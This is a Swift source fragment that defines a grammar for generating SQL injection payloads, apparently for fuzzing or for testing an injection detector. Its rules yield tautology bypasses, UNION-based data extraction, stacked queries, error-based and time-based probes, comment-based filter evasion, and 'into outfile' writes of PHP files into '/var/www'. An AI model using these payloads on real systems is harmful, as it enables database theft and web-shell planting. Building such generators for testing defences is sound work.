/// Injections as they are built: a way out of where the value stands, something to run, and a way to keep the statement whole.
let payloadGrammar = payloadStatements + "\n" + payloadPieces

private let payloadStatements =
  #"""
  start
    <bare>
    <bare>
    <singleQuoted>
    <singleQuoted>
    <doubleQuoted>
    <statement>
    <fuzz>
  bare
    <value><closing> <tail><bareEnd>
    <value><closing><tight><bareEnd>
    (<value>)<closing> <tail><bareEnd>
    <value><closing> <logic> <tautology>
    <value><closing> <logic> <tautology><cut>
    <value><closing> <logic> <tautology> <logic> <tautology>
    <closers> <tail><bareEnd>
    <value> <commentMark>
    <arithmetic>
    <arithmetic><cut>
    <expression><cut>
    <expression>
  singleQuoted
    <prefix>'<closing> <tail> <reopenSingle>
    <prefix>'<closing> <tail> <reopenSingle>
    <prefix>'<closing> <logic> <tautology><cut>
    <prefix>'<closing> <logic> <tautology> <reopenSingle>
    <prefix>'<closing><tight><cut>
    <prefix>'<closing> <tail><cut>
    <prefix>'<closing> <tail><cut>
    <prefix>'<closing><cut>
    <prefix>'<arith><call><arith>'
    <prefix>' <arith> <call> <arith> '
    <prefix>' <call> '
    <prefix>'<arith><subselect><arith>'<suffix>
    <prefix>'<blank><operator><blank>'<suffix>
    <short>'<blank><operator><blank>'<short>
    <short> '<operator>' <short>
    <prefix>'<blank><operator><blank><number><cut>
    <prefix>'<blank><operator><blank><number> <reopenSingle>
    <prefix>'<blank><operator><blank><operand><blank><operator><blank>'<suffix>
    <prefix>' <logic> <operand><blank><operator><blank>'<suffix>
    <prefix>','<word>'<tuple><cut>
    <prefix>',<call>)<cut>
    <prefix>',<subselect>)<cut>
    <prefix>', <word>='<word>
    <prefix>', <word>=<operand> where <condition><cut>
    <prefix>'),(<operand>,<operand>)<cut>
  doubleQuoted
    <prefix>"<closing> <tail> <reopenDouble>
    <prefix>"<closing> <tail> <reopenDouble>
    <prefix>"<closing><tight><cut>
    <prefix>"<closing> <tail><cut>
    <prefix>"<closing> <tail><cut>
    <prefix>"<closing><cut>
    <prefix>"<arith><call><arith>"
    <prefix>" <arith> <call> <arith> "
    <prefix>" <call> "
    <prefix>"<blank><operator><blank><operand><blank><operator><blank>"<suffix>
    <prefix>"<arith><subselect><arith>"<suffix>
    <prefix>" <logic> <operand><blank><operator><blank>"<suffix>
    " | <word> %<word>%\\<word> | "
    ' | <word> %<word>%\\<word> | '
  statement
    <select>
    <select><cut>
    (<select>)
    select <call>
    select <call><cut>
    <call>
    <telling>
    <telling><cut>
    ;<stacked><cut>
    <stacked2><cut>
    <value>; <stacked><cut>
    <value>;<stacked2><cut>
    <value>); <stacked><cut>
    <value>;select <call><cut>
    <value> /*!<number2><logic> <condition>*/
    <value> /*!<union> select*/ <list><cut>
    <union> select <list> from <word>
    <union> select <list><cut>
    { <word> <call> }
  tail
    <logic> <condition>
    <logic> <condition>
    <logic> <condition>
    <logic> <operand>
    <logic> <call>
    <logic> <not><call>
    <logic> <subselect>
    <logic> (<condition>
    <logic> (<condition>)
    <union> select <list>
    <union> select <list> from <word>
    <union> select <list> from <word> where <condition>
    <union> (select <list>
    <union> (select <list>)
    <union>(select <list> from <word>)
    <union>/**/select/**/<list>
    order by <number2>
    order by <number2>,<number2>
    order by <word>
    order by <subselect>
    group by <word> having <condition>
    having <condition>
    having <number>
    limit <number>,<number2> <union> select <list>
    limit <number2> procedure analyse(<call>,<number>)
    into outfile <string>
    into dumpfile <string>
    into outfile '/var/www/<word>.php
    into outfile "/var/www/<word>.php
    ; <stacked>
    ; <stacked2>
    ;select <call>
    and row(<number>,<number>)>(select count(*),concat(<call>,<number>) from <word> group by <word>)
    <logic> <operand> <between>
    <logic> <operand> <likes> <operand>
    where <condition>
    procedure analyse(<call>,<number>)
    RLIKE (select (case when (<condition>) then <number> else <number> end))
    <wordOperator> <subselect>
    waitfor delay '0:0:5'
  tight
    <marks><condition>
    <marks><call>
    <marks><operand>
    /**/<logic>/**/<condition>
    /**/<union>/**/select/**/<list>
    %0a<logic>(<condition>)
    <logic>(<condition>)
    ;<stacked>
    ;<stacked2>
    <arith><call>
    <arith><subselect>
    <arith>(<subselect>)
    =<subselect>
    =<number>
  condition
    <number>=<number>
    <number>=<number>
    <operand><comparison><operand>
    <operand> <comparison> <operand>
    <operand> <likes> <operand>
    <string>=<string>
    0x31=0x31
    0x31<comparison>0x32
    0x61 like 0x61
    <call>=<operand>
    <call><comparison><number>
    <call>
    not <number>=<number>
    exists (select <list> from <word>)
    exists(select <list> from <word> where <condition>)
    <number> in (select <list> from <word>)
    <operand> <between>
    <word> is <not>null
    <word> like <string>
    <subselect>=<operand>
    <subselect><comparison><operand>
    <number>=<call>
    <number>=(select <number> from <word>)
    case when <condition> then <number> else <number> end
    (<condition>)
    <operand> <arith> <operand> = <operand>
    <word>=<word>
    <word>=<number>
    <word><comparison><operand>
    <word> <comparison> <operand>
    <word> is <not>null
    <number> <likes> <number>
  tautology
    <simple>=<simple>
    <simple>=<simple>
    <simple><comparison><simple>
    <simple> <likes> <simple>
    <simple> between <simple> and <simple>
    <not><simple>
  simple
    1
    '1'
    "a"
    id
    `id`
    t.id
    null
    true
    0x41
    @@version
    user()
    hex(1)
    1+1
  between
    between <number> and <number>
    not between <number> and <number>
  likes
    like
    not like
    rlike
    regexp
    sounds like
    in
    glob
    ilike
    is not
  wordOperator
    rlike
    regexp
    like
    div
    in
  operator
    =
    <comparison>
    <comparison>
    <arith>
    <arith>
    <wordOperator>
    <likes>
    <logic>
    <marks>
    mod
    xor
    <arith><sign>
  sign
    -
    +
    ~
    !
  marks
    ||
    &&
    |
    &
  comparison
    =
    <
    >
    <=
    >=
    <>
    !=
    <=>
  arith
    +
    -
    *
    /
    %
    ^
    ||
    |
    &
  arithmetic
    <number><arith><call>
    <number> <arith> <call>
    <number><arith><subselect>
    <word><arith><call>
    <number><arith><telling>
  expression
    (<subselect>)
    <word> having <condition>
    <word> having (<condition> <logic> <condition>)
    <word> having (<operand> <logic> <operand>)
    <word> having <operand> <logic> <operand>
    case <operand> when <operand> then <operand> end
    case <operand> when <operand> then <operand> else <operand> end
    <value> <logic> -<operand>
    <subselect>
    case when <condition> then <number> else <number> end
    (case when <condition> then <call> else <number> end)
    if(<condition>,<call>,<number>)
    <telling>
  subselect
    (select <operand>)
    (select <list> from <word>)
    (select <call>)
    (select <list> from <word> where <condition>)
    (select*from(select(<call>))<word>)
    (select(<call>))
    (select <number> from(select count(*),concat(<call>,floor(rand(0)*2))x from <word> group by x)a)
    (select case when <condition> then <number> else <number> end)
    (select (case when (<condition>) then <number> else <number> end))
  select
    select <list> from <word>
    select <list> from <word> where <condition>
    select * from <word>
    select <call>,<list> from <word>
    select <call> from <word>
    select <number>,<list>
    select @@version
    select * from <word> <logic> <condition>
  list
    <number>
    <number>,<number2>
    <number>,<number2>,<number2>
    null
    null,null,null
    *
    <word>
    <word>,<word>
    <call>
    <call>,<number2>
    <number>,<call>,<number2>
    <number>,<word>,<number2>
    concat(<word>,0x3a,<word>)
    @@version
    <number>,@@version
    <string>
    <string>,<number2>
    distinct <word>
    top 1 <word>
    all <word>
    (<call>)
    <number> as <word>
    <word> <word>
    <word> as <word>
    <word> as "<word>"
    <word> as 'x',<number>
    <number>,<word> as <word>,<number>
    <word> "<word>"
    <word>.*
  """#
